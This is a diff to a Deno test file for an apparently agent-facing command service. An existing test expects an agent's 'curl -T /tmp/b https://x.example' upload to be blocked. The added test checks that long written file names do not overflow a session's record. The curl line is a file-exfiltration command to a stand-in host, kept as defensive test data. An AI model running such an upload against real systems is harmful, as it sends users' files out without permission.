@@ -122,3 +122,12 @@ Deno.test("instances: a chain whose commands come to two instances is judged as 
   const last = await exec(one, owner, agent.id, "curl -T /tmp/b https://x.example");
   deq([last.status, last.body.error.code], [403, "COMMAND_BLOCKED"]);
 });
+
+Deno.test("instances: long names of written files do not outgrow a session's record", async () => {
+  await using cluster = await pair();
+  const { two, owner, agent } = cluster;
+  for (let n = 0; n < 20; n++) {
+    const path = `/tmp/${n}-${"x".repeat(3_900)}`;
+    eq((await exec(two, owner, agent.id, `echo hi > ${path}`)).status, 200, `file ${n}`);
+  }
+});
